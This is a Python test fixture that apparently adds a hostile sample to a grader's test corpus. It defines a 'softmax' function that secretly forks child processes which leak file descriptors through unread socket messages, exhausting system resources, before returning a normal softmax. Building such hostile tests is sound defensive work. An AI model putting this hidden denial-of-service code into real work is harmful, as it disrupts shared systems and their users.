"""Sends descriptors to nobody, so that they stay open without a number."""

from tests.hostile.corpus import put

POINTS = {}

CODE = """
def softmax(z, axis=-1):
    import os, socket

    def children(count, work):
        pids = []
        for _ in range(count):
            if (pid := os.fork()) == 0:
                try:
                    work()
                finally:
                    os._exit(0)
            pids.append(pid)
        for pid in pids:
            os.waitpid(pid, 0)

    def send():
        try:
            for _ in range(2000):
                own, other = socket.socketpair()
                own.setblocking(False)
                reader, writer = os.pipe()
                os.set_blocking(writer, False)
                os.write(writer, bytes(1 << 16))
                socket.send_fds(own, [b"x"], [reader, writer, other.fileno()])
                for each in (reader, writer):
                    os.close(each)
        except OSError:
            pass

    children(10, send)
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""


def make(nb):
    put(nb, "softmax", CODE)
